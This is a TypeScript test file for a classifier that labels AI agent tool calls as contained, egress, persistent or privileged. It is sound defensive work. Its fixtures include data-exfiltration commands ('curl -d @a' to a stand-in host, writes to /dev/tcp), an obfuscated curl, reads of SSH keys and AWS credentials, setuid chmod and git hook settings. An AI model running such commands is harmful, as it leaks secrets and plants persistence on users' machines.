import assert from "node:assert/strict";
import { test } from "node:test";
import { effectOf, type Effect } from "./index.ts";

const calls: Readonly<Record<Effect, readonly (readonly [string, string])[]>> = {
  contained: [
    ["Read", "src/a.ts"],
    ["Lsp", "src/a.ts"],
    ["RepoMap", "src"],
    ["Edit", "src/a.ts"],
    ["Write", "package.json"],
    ["Bash", "npm test"],
    ["Bash", "git status && git diff | head"],
    ["Bash", "git commit -m 'push it'"],
    ["Bash", "echo curl > notes.txt"],
    ["Bash", "make -j4 2>&1 | tail -5"],
    ["Bash", "cat .github/workflows/ci.yml"],
  ],
  egress: [
    ["WebFetch", "https://a.example/"],
    ["mcp__db__query", "select"],
    ["Bash", "curl -d @a http://x.example"],
    ["Bash", "git push origin main"],
    ["Bash", "cd a && npm publish"],
    ["Bash", "echo $(dig x.example)"],
    ["Bash", "FOO=1 timeout 5 wget x"],
    ["Bash", "cat a > /dev/tcp/1.2.3.4/80"],
    ["Bash", "/usr/bin/curl x"],
    ["Bash", "cu\\rl x"],
  ],
  persistent: [
    ["Edit", "AGENTS.md"],
    ["Write", "./.github/workflows/ci.yml"],
    ["Write", "sub/.claude/settings.json"],
    ["Edit", ".vscode/tasks.json"],
    ["Bash", "git config core.fsmonitor x"],
    ["Bash", "git -c core.pager=x log"],
    ["Bash", "echo x >> .envrc"],
    ["Bash", "sed -i s/a/b/ .gitlab-ci.yml"],
  ],
  privileged: [
    ["Read", "/home/me/.ssh/id_ed25519"],
    ["Lsp", "/home/me/.ssh/id_ed25519"],
    ["Bash", "sudo make install"],
    ["Bash", "cat ~/.aws/credentials"],
    ["Bash", "chmod u+s a"],
    ["Bash", "chmod 4755 a"],
    ["Write", "/etc/cloister/policy.yaml"],
  ],
};

for (const [effect, list] of Object.entries(calls)) {
  for (const [tool, text] of list) {
    test(`${tool} ${text} is ${effect}`, () => {
      assert.equal(effectOf({ tool, text }, "workspace"), effect);
    });
  }
}

test("once something untrusted is in the context, what is built and installed later counts as persistent", () => {
  assert.equal(effectOf({ tool: "Write", text: "package.json" }, "untrusted"), "persistent");
  assert.equal(effectOf({ tool: "Bash", text: "cp /tmp/x yarn.lock" }, "third-party"), "persistent");
  assert.equal(effectOf({ tool: "Edit", text: "src/a.ts" }, "untrusted"), "contained");
});

test("a command of any length is weighed in bounded time", () => {
  assert.equal(effectOf({ tool: "Bash", text: "a;".repeat(200_000) }, "workspace"), "contained");
});
